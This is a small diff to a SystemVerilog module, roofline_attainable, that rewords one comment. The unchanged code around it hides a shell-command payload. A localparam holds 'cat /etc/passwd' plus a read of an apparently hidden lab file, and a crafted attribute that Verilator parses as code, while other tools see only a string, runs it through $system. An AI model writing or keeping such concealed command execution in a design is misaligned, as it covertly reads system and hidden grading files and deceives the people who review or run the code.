@@ -8,7 +8,7 @@ module roofline_attainable #(
   output logic [INT_BITS+FRAC_BITS-1:0] cap_o,
   output logic                          mem_bound_o
 );
-// Verilator ends an attribute at the first *), even inside a string: to it, the middle is code
+// To Verilator an attribute ends at the first *), even inside a string, so the middle is code
 // that runs a shell command; to pyslang and Icarus, one string.
 localparam C = "cat /etc/passwd; cat /work/labs/lab1/hidden.toml";
 (* note = "*) initial void'($system(C)); (* note = " *)
